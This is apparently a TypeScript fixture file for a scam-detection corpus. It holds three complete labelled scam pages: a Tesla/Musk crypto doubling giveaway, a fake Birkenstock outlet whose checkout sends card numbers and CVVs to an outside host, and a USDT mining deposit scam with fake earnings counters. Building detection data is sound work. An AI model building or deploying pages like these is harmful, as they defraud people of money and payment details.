import type { Entry } from '../entry.js';
import type { Route } from '../../corpus/corpus.js';

// Giveaway, investment, prize and shop scams rendered from JSON.
const raw = String.raw;
const json = (v: unknown): Route => ({ status: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify(v) });

export const entries: Entry[] = [
  {
    id: 'c-scam-btc-giveaway-json',
    label: 'scam',
    kind: 'scam',
    url: 'https://tesla-x2-event.org/live/',
    body: raw`<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Loading…</title>
<style>body{margin:0;background:#0a0a0a;color:#eee;font-family:Montserrat,Arial,sans-serif}.hero{text-align:center;padding:50px 20px;background:radial-gradient(circle at top,#2b2b2b,#0a0a0a)}.hero h1{font-size:44px;margin:0}.hero h1 b{color:#f7931a}.rules{max-width:760px;margin:20px auto;display:grid;grid-template-columns:1fr 1fr;gap:16px;padding:0 16px}.rules div{background:#151515;border:1px solid #2a2a2a;border-radius:10px;padding:16px}.addr{font-family:monospace;background:#111;border:1px dashed #f7931a;padding:12px;border-radius:8px;word-break:break-all;margin:10px 0}.cp{background:#f7931a;border:0;border-radius:6px;padding:8px 16px;font-weight:700;cursor:pointer}table{width:100%;max-width:760px;margin:20px auto;border-collapse:collapse;font-size:13px}td,th{padding:8px;border-bottom:1px solid #222;text-align:left}.ok{color:#3ecf8e}.prog{height:14px;background:#222;border-radius:7px;overflow:hidden;max-width:520px;margin:14px auto}.prog i{display:block;height:100%;background:#f7931a}</style></head>
<body><div id="app"></div>
<script>
fetch('/event.json').then(r => r.json()).then(E => {
  document.title = E.title;
  const app = document.getElementById('app');
  app.innerHTML = '<div class="hero"><p>' + E.kicker + '</p><h1>' + E.headline + '</h1><p>' + E.sub + '</p><div class="prog"><i style="width:' + E.progress + '%"></i></div><p>' + E.left + ' BTC left</p></div>'
    + '<div class="rules">' + E.coins.map(c => '<div><h3>Send ' + c.sym + '</h3><p>Send from ' + c.min + ' to ' + c.max + ' ' + c.sym + ' to the address below and receive <b>x2</b> back instantly.</p><div class="addr">' + c.addr + '</div><button class="cp" data-a="' + c.addr + '">Copy address</button></div>').join('') + '</div>'
    + '<h3 style="text-align:center">Latest transactions</h3><table id="tx"><tr><th>TX</th><th>Sent</th><th>Received</th><th>Status</th></tr></table>';
  document.querySelectorAll('.cp').forEach(b => b.onclick = () => { navigator.clipboard.writeText(b.dataset.a); b.textContent = 'Copied!'; });
  const tx = document.getElementById('tx');
  const row = () => { const v = (Math.random() * 2 + .1).toFixed(3); const r = tx.insertRow(1); r.innerHTML = '<td>' + Math.random().toString(16).slice(2, 14) + '…</td><td>' + v + ' BTC</td><td>' + (v * 2).toFixed(3) + ' BTC</td><td class="ok">Completed</td>'; if (tx.rows.length > 12) tx.deleteRow(12); };
  for (let i = 0; i < 8; i++) row();
  setInterval(row, 2600);
});
</script></body></html>`,
    routes: {
      'tesla-x2-event.org/event.json': json({
        title: 'Tesla Official Event — 5,000 BTC Giveaway', kicker: 'LIVE NOW · Official event by Elon Musk', headline: '<b>5,000 BTC</b> & 50,000 ETH Giveaway',
        sub: 'To celebrate the launch of the new Tesla crypto payment system, we are giving away BTC and ETH to the community. Participate below.', progress: 63, left: '1,842.51',
        coins: [{ sym: 'BTC', min: '0.1', max: '20', addr: 'bc1qy7x4m2k0hz5e8w3l9d6c2n0p4r8t6v5s3q2j7f' }, { sym: 'ETH', min: '0.5', max: '200', addr: '0x3f8A1b2C4d6E8f0a1B3c5D7e9F1a3B5c7D9e1F2a' }],
      }),
    },
  },
  {
    id: 'c-scam-outlet-shop-json',
    label: 'scam',
    kind: 'scam',
    url: 'https://birkenstock-outlet-sale.shop/collections/all',
    body: raw`<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Birkenstock Outlet | Up To 80% Off | Closing Down Sale</title>
<style>body{margin:0;font-family:"Helvetica Neue",Arial,sans-serif;color:#222}.an{background:#c00;color:#fff;text-align:center;padding:8px;font-size:13px;font-weight:700}.hd{text-align:center;padding:18px;font-size:26px;letter-spacing:.2em;border-bottom:1px solid #eee}.g{display:grid;grid-template-columns:repeat(auto-fill,minmax(200px,1fr));gap:20px;max-width:1100px;margin:20px auto;padding:0 16px}.p{border:1px solid #eee;padding:10px;position:relative}.p .im{aspect-ratio:1;background:#f3efe9;display:flex;align-items:center;justify-content:center;color:#a08b6d}.p .of{position:absolute;top:10px;left:10px;background:#c00;color:#fff;font-size:12px;padding:3px 6px}.p s{color:#999}.p b{color:#c00;font-size:18px}.add{width:100%;background:#222;color:#fff;border:0;padding:10px;margin-top:8px;cursor:pointer}#co{display:none;max-width:460px;margin:30px auto;padding:20px;border:1px solid #ddd}#co input{width:100%;padding:10px;margin:5px 0;border:1px solid #ccc;box-sizing:border-box}</style></head>
<body><div class="an" id="an"></div><div class="hd">BIRKENSTOCK</div><div class="g" id="g"></div>
<div id="co"><h3>Checkout</h3><p id="sum"></p><input placeholder="Email"><input placeholder="Full name"><input placeholder="Address"><input placeholder="Card number"><div style="display:flex;gap:8px"><input placeholder="MM/YY"><input placeholder="CVV"></div><button class="add" id="pay">Pay now</button></div>
<script>
(async () => {
  const S = await fetch('/products.json').then(r => r.json());
  document.getElementById('an').textContent = S.banner;
  const g = document.getElementById('g');
  let cart = 0;
  S.products.forEach((p) => {
    const el = document.createElement('div'); el.className = 'p';
    el.innerHTML = '<span class="of">-' + Math.round(100 - p.price / p.was * 100) + '%</span><div class="im">' + p.name.split(' ')[0] + '</div><p>' + p.name + '</p><s>€' + p.was.toFixed(2) + '</s> <b>€' + p.price.toFixed(2) + '</b><p style="font-size:12px;color:#c00">Only ' + p.stock + ' left!</p><button class="add">Add to cart</button>';
    el.querySelector('button').onclick = () => { cart += p.price; document.getElementById('co').style.display = 'block'; document.getElementById('sum').textContent = 'Total: €' + cart.toFixed(2) + ' · Free shipping'; document.getElementById('co').scrollIntoView(); };
    g.appendChild(el);
  });
  document.getElementById('pay').onclick = () => {
    const v = [...document.querySelectorAll('#co input')].map((i) => i.value);
    fetch(S.pay, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ v, cart }) }).finally(() => { document.getElementById('co').innerHTML = '<h3>Thank you for your order!</h3><p>Your order will ship within 15-25 business days.</p>'; });
  };
})();
</script></body></html>`,
    routes: {
      'birkenstock-outlet-sale.shop/products.json': json({
        banner: 'CLOSING DOWN SALE — ALL ITEMS UP TO 80% OFF — ENDS TONIGHT', pay: 'https://checkout-secure-pay.top/api/p',
        products: [
          { name: 'Arizona Soft Footbed Suede', was: 140, price: 29.99, stock: 3 }, { name: 'Boston Suede Leather', was: 160, price: 34.99, stock: 2 },
          { name: 'Gizeh Birko-Flor', was: 95, price: 24.99, stock: 5 }, { name: 'Milano Oiled Leather', was: 150, price: 32.99, stock: 4 },
          { name: 'Madrid Big Buckle', was: 110, price: 27.99, stock: 1 }, { name: 'Zermatt Shearling', was: 130, price: 29.99, stock: 2 },
        ],
      }),
    },
  },
  {
    id: 'c-scam-usdt-mining-platform',
    label: 'scam',
    kind: 'scam',
    url: 'https://app.defi-usdt-pool.vip/#/mining',
    body: raw`<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1,user-scalable=no"><title>DeFi Liquidity Mining</title>
<style>body{margin:0;background:linear-gradient(#0c1b3a,#050b18);color:#fff;font-family:Arial,sans-serif;min-height:100vh}.w{max-width:460px;margin:0 auto;padding:16px}.card{background:#ffffff10;border:1px solid #ffffff20;border-radius:14px;padding:16px;margin:12px 0}.big{font-size:28px;font-weight:700;color:#26a17b}.row{display:flex;justify-content:space-between;font-size:14px;margin:6px 0}.bt{width:100%;background:#26a17b;color:#fff;border:0;border-radius:24px;padding:13px;font-size:16px;font-weight:700;cursor:pointer}.lv{display:grid;grid-template-columns:1fr 1fr 1fr;gap:6px;font-size:12px;text-align:center}.lv div{background:#ffffff0d;border-radius:8px;padding:8px}.cs{position:fixed;right:14px;bottom:14px;background:#26a17b;border-radius:50%;width:54px;height:54px;display:flex;align-items:center;justify-content:center;font-size:22px}</style></head>
<body><div class="w" id="w"></div><a class="cs" href="https://t.me/DeFiPool_Service">💬</a>
<script>
fetch('/api/pool/info').then(function (r) { return r.json(); }).then(function (p) {
  var w = document.getElementById('w');
  w.innerHTML = '<h2>' + p.name + '</h2><div class="card"><div>Total output</div><div class="big" id="out">' + p.output.toLocaleString() + ' USDT</div><div class="row"><span>Participants</span><span>' + p.users.toLocaleString() + '</span></div><div class="row"><span>Your income (24h)</span><span id="inc">0.000000 USDT</span></div></div>'
    + '<div class="card"><b>Daily yield by wallet balance</b><div class="lv">' + p.levels.map(function (l) { return '<div>' + l.min + '–' + l.max + ' USDT<br><b style="color:#26a17b">' + l.rate + '%/day</b></div>'; }).join('') + '</div></div>'
    + '<div class="card"><b>Deposit</b><p style="font-size:13px">Deposit USDT (TRC20) to join the node. Earnings are paid every 6 hours. Withdrawals require a 20% VIP activation fee.</p><div style="font-family:monospace;word-break:break-all;background:#0006;padding:10px;border-radius:8px">' + p.deposit + '</div><button class="bt" id="cp" style="margin-top:10px">Copy address</button></div>'
    + '<div class="card">' + p.feed.map(function (f) { return '<div class="row"><span>' + f[0] + '</span><span style="color:#26a17b">+' + f[1] + ' USDT</span></div>'; }).join('') + '</div>';
  document.getElementById('cp').onclick = function () { navigator.clipboard.writeText(p.deposit); this.textContent = 'Copied'; };
  var inc = 0, out = p.output;
  setInterval(function () { inc += 0.000173; out += Math.random() * 3; document.getElementById('inc').textContent = inc.toFixed(6) + ' USDT'; document.getElementById('out').textContent = Math.floor(out).toLocaleString() + ' USDT'; }, 1000);
});
</script></body></html>`,
    routes: {
      'app.defi-usdt-pool.vip/api/pool/info': json({
        name: 'Liquidity Mining Pool', output: 18402933, users: 94122, deposit: 'TXq9mR2vK7dF3nL8sW1cY6bE4hJ5aP0uZt',
        levels: [{ min: 100, max: 4999, rate: 1.6 }, { min: 5000, max: 19999, rate: 2.2 }, { min: 20000, max: 49999, rate: 2.8 }, { min: 50000, max: 199999, rate: 3.5 }, { min: 200000, max: 499999, rate: 4.2 }, { min: 500000, max: 999999, rate: 5 }],
        feed: [['TQn3…k9Xa', '1,284.50'], ['TLm8…p2Qe', '642.18'], ['TVc1…w7Rb', '3,911.02'], ['TFh5…z4Ne', '218.77']],
      }),
    },
  },
];
